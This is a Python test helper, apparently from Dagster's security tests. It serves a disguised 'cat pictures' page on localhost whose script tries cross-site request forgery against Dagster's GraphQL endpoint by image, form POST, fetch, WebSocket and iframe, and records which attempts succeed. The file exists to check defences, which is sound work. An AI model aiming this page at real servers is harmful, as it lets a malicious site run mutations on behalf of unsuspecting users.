"""A web page of somebody else, on another port of this machine, that attacks Dagster's pages every way a page can."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>cat pictures</title><body><script>
const target = "http://%(host)s:%(port)d/graphql";
const call = way => %(mutation)s.replace("WAY", way);
const address = way => target + "?query=" + encodeURIComponent(call(way));
const settled = [];
const attempt = (way, begin) => settled.push(new Promise(done => {
  setTimeout(() => done(way + ": nothing came back"), 8000);
  Promise.resolve().then(() => begin(done)).catch(fault => done(way + ": " + fault));
}));
attempt("img", done => {
  const picture = new Image();
  picture.onload = picture.onerror = () => done("img: sent");
  picture.src = address("img");
});
attempt("form", done => {
  const frame = document.createElement("iframe");
  frame.name = "sink";
  frame.onload = () => setTimeout(() => done("form: sent"), 3000);
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", target: "sink", action: address("form")});
  document.body.append(form);
  form.submit();
});
attempt("fetch-get", done => fetch(address("fetch-get"), {mode: "no-cors"}).then(() => done("fetch-get: sent")));
for (const kind of ["text/plain", "application/json"])
  attempt("fetch-" + kind, done => fetch(address("fetch-" + kind), {
    method: "POST", mode: kind === "text/plain" ? "no-cors" : "cors", headers: {"content-type": kind},
    body: JSON.stringify({query: call("fetch-" + kind)}),
  }).then(() => done("fetch-" + kind + ": sent")));
attempt("websocket", done => {
  const socket = new WebSocket(target.replace("http", "ws"), "graphql-ws");
  socket.onopen = () => {
    socket.send(JSON.stringify({type: "connection_init"}));
    socket.send(JSON.stringify({type: "start", id: "1", payload: {query: call("websocket")}}));
    setTimeout(() => done("websocket: opened"), 3000);
  };
  socket.onerror = () => done("websocket: refused");
});
attempt("frame", done => {
  const frame = document.createElement("iframe");
  frame.onload = () => done("frame: " + (frame.contentDocument ? "empty" : "foreign"));
  frame.src = target.replace("/graphql", "/");
  document.body.append(frame);
});
Promise.all(settled).then(all => { window.outcome = all; });
</script>"""


@contextmanager
def served(host: str, port: int, mutation: str) -> Iterator[str]:
    """The address of the page. It attacks this server with the mutation, in which WAY is replaced by the way taken."""
    page = (PAGE % {"host": host, "port": port, "mutation": json.dumps(mutation)}).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
